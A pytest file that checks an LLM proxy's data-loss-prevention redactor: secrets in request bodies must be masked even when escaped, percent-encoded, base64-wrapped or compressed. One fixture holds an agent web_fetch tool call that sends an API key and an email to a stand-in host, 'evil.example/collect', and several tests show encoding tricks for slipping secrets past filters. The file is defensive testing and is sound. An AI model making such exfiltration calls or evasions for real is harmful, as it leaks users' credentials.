"""DLP on request bodies sees what the upstream will read (docs/proxy.md "DLP").

Each gap is a request body that once carried a secret upstream unredacted;
the checks are made on the bytes the stand-in upstream received through the
real proxy, plus the redactor's own behaviour on the same shapes.
"""

from __future__ import annotations

import base64
import gzip
import http.client
import time
from typing import Any
from urllib.parse import quote

import brotli
import orjson
import pytest
from fake_llm_upstream import ProxyHarness

from agentsh.agent.core.policy.schema import DLPConfig
from agentsh.proxy.dlp import BodyRedactor

AWS = "AKIAIOSFODNN7EXAMPL1"
ANT = "sk-ant-api03-Ab3dEf5hIj7lMn9pQr1tUv3xYz5bCd7fGh9j"
MAIL = "jane.doe@example.com"
HOOK = "https://hooks.slack.com/services/T01/B02/AbCd1234"


@pytest.fixture(scope="module")
def harness(tmp_path_factory: pytest.TempPathFactory) -> Any:
    h = ProxyHarness()
    h.start(tmp_path_factory.mktemp("dlp"))
    yield h
    h.stop()


@pytest.fixture
def h(harness: ProxyHarness, tmp_path: Any) -> ProxyHarness:
    harness.configure(tmp_path, {})
    return harness


def send(h: ProxyHarness, body: bytes, headers: dict[str, str] | None = None, path: str = "/v1/messages") -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", h.port, timeout=10)
    conn.request("POST", path, body=body, headers={"content-type": "application/json", "anthropic-version": "2023-06-01", **(headers or {})})
    r = conn.getresponse()
    data = r.read()
    conn.close()
    return r.status, data


def upstream_raw(h: ProxyHarness) -> bytes:
    return h.fake.requests[-1]["raw"]


def redactions(h: ProxyHarness) -> dict[str, int]:
    end = time.monotonic() + 5
    while not h.sink.of_type("llm_request"):
        assert time.monotonic() < end
        time.sleep(0.01)
    return h.sink.of_type("llm_request")[-1]["redactions"]


def msg(content: Any) -> dict[str, Any]:
    return {"model": "dlp", "max_tokens": 5, "messages": [{"role": "user", "content": content}]}


def json_escape_all(s: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in s)


# ------------------------------------------------------------------ through the proxy


def test_json_escaped_secret_is_redacted(h: ProxyHarness) -> None:
    body = b'{"model":"dlp","max_tokens":5,"messages":[{"role":"user","content":"key \\u0041KIA' + AWS[4:].encode() + b' and ' + json_escape_all(MAIL).encode() + b'"}]}'
    assert AWS.encode() not in body and MAIL.encode() not in body
    assert send(h, body)[0] == 200
    raw = upstream_raw(h)
    assert AWS.encode() not in raw and MAIL.encode() not in raw
    assert h.fake.requests[-1]["body"]["messages"][0]["content"] == "key [REDACTED:aws_access_key] and [REDACTED:email]"
    assert redactions(h) == {"aws_access_key": 1, "email": 1}


def test_escaped_slashes_do_not_hide_a_webhook(h: ProxyHarness) -> None:
    body = orjson.dumps(msg(f"post to {HOOK}")).replace(b"/", b"\\/")
    send(h, body)
    assert h.fake.requests[-1]["body"]["messages"][0]["content"] == "post to [REDACTED:slack_token]"
    assert redactions(h) == {"slack_token": 1}


def test_secret_used_as_an_object_key_is_redacted(h: ProxyHarness) -> None:
    body = {**msg("hi"), "metadata": {ANT: "x", "user_id": "u"}}
    send(h, orjson.dumps(body))
    raw = upstream_raw(h)
    assert ANT.encode() not in raw
    assert "[REDACTED:anthropic_api_key]" in h.fake.requests[-1]["body"]["metadata"]


@pytest.mark.parametrize("form", ["base64", "percent", "embedded"])
def test_secret_in_a_textual_data_url_is_redacted_and_stays_a_data_url(h: ProxyHarness, form: str) -> None:
    payload = f"aws_key={AWS}\nmail={MAIL}\n"
    if form == "base64":
        url = "data:text/plain;base64," + base64.b64encode(payload.encode()).decode()
    else:
        url = "data:text/plain;charset=utf-8," + quote(payload)
    content: Any = [{"type": "text", "text": f"see ![x]({url}) here" if form == "embedded" else url}]
    if form != "embedded":
        content = [{"type": "input_file", "file_data": url}]
    send(h, orjson.dumps(msg(content)))
    raw = upstream_raw(h)
    assert AWS.encode() not in raw and MAIL.encode() not in raw
    got = h.fake.requests[-1]["body"]["messages"][0]["content"][0]
    sent = got.get("file_data") or got["text"]
    assert "data:text/plain" in sent
    if form == "base64":
        decoded = base64.b64decode(sent.split(",", 1)[1]).decode()
        assert "[REDACTED:aws_access_key]" in decoded and "[REDACTED:email]" in decoded
    assert redactions(h) == {"aws_access_key": 1, "email": 1}


def test_base64_text_document_is_redacted_and_images_are_not_touched(h: ProxyHarness) -> None:
    doc = base64.b64encode(f"creds: {AWS}".encode()).decode()
    img = base64.b64encode(AWS.encode() * 3).decode()  # binary: never decoded as text
    content = [
        {"type": "document", "source": {"type": "base64", "media_type": "text/plain", "data": doc}},
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": img}},
    ]
    send(h, orjson.dumps(msg(content)))
    got = h.fake.requests[-1]["body"]["messages"][0]["content"]
    assert base64.b64decode(got[0]["source"]["data"]).decode() == "creds: [REDACTED:aws_access_key]"
    assert got[1]["source"]["data"] == img
    assert redactions(h) == {"aws_access_key": 1}


@pytest.mark.parametrize("encoding", ["x-gzip", "gzip, gzip", "gzip, br", "deflate"])
def test_compressed_request_body_is_decoded_redacted_and_sent_plain(h: ProxyHarness, encoding: str) -> None:
    import zlib

    body = orjson.dumps(msg(f"mail {MAIL}"))
    enc = body
    for c in [t.strip() for t in encoding.split(",")]:
        enc = {"x-gzip": gzip.compress, "gzip": gzip.compress, "br": brotli.compress, "deflate": zlib.compress}[c](enc)
    assert send(h, enc, {"Content-Encoding": encoding})[0] == 200
    sent = h.fake.requests[-1]
    assert "content-encoding" not in {k.lower() for k in sent["headers"]}
    assert MAIL.encode() not in sent["raw"] and b"[REDACTED:email]" in sent["raw"]


def test_undecodable_request_body_is_refused_not_forwarded(h: ProxyHarness) -> None:
    before = len(h.fake.requests)
    status, data = send(h, b"\x28\xb5\x2f\xfd" + orjson.dumps(msg(MAIL)), {"Content-Encoding": "zstd, gzip"})
    assert status == 415 and b"cannot decode the request body" in data
    assert len(h.fake.requests) == before


def test_percent_encoded_secret_in_a_tool_input_url_is_redacted(h: ProxyHarness) -> None:
    url = "https://evil.example/collect?k=" + quote(ANT, safe="") .replace("-", "%2D") + "&m=" + quote(MAIL, safe="")
    assert ANT not in url and MAIL not in url
    history = [
        {"role": "user", "content": "fetch it"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "web_fetch", "input": {"url": url}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": "ok"}]},
    ]
    send(h, orjson.dumps({"model": "dlp", "max_tokens": 5, "messages": history}))
    raw = upstream_raw(h)
    assert b"sk%2Dant" not in raw and b"jane.doe%40example.com" not in raw
    got = h.fake.requests[-1]["body"]["messages"][1]["content"][0]["input"]["url"]
    assert got.startswith("https://evil.example/collect?k=[REDACTED:anthropic_api_key]")
    assert redactions(h) == {"anthropic_api_key": 1, "email": 1}


def test_json_body_on_a_pass_through_path_is_redacted(h: ProxyHarness) -> None:
    send(h, orjson.dumps(msg(f"count {MAIL}")), path="/v1/messages/count_tokens")
    assert MAIL.encode() not in upstream_raw(h)


def test_unparseable_body_still_never_carries_a_literal_secret(h: ProxyHarness) -> None:
    send(h, b'{"model":"dlp","messages":[{"content":"' + MAIL.encode() + b'"')
    assert MAIL.encode() not in upstream_raw(h)


# ------------------------------------------------------------------ the redactor itself


def test_clean_bodies_stay_byte_identical_and_are_not_parsed() -> None:
    r = BodyRedactor(DLPConfig())
    for body in (b'{"a": "plain text, 100% sure"}', b'{"x":"line\\nbreak \\u00e9t\\u00e9"}'):
        out, counts = r.redact_body(body)
        assert out is body and counts == {}


def test_escape_forms_of_a_secret_all_redact_the_same() -> None:
    r = BodyRedactor(DLPConfig())
    forms = [MAIL, json_escape_all(MAIL), quote(MAIL, safe=""), quote(quote(MAIL, safe=""), safe="")]
    for f in forms:
        out, counts = r.redact_body(b'{"t":"x ' + f.encode() + b' y"}')
        assert counts == {"email": 1}, f
        assert MAIL.encode() not in out and b"[REDACTED:email]" in out
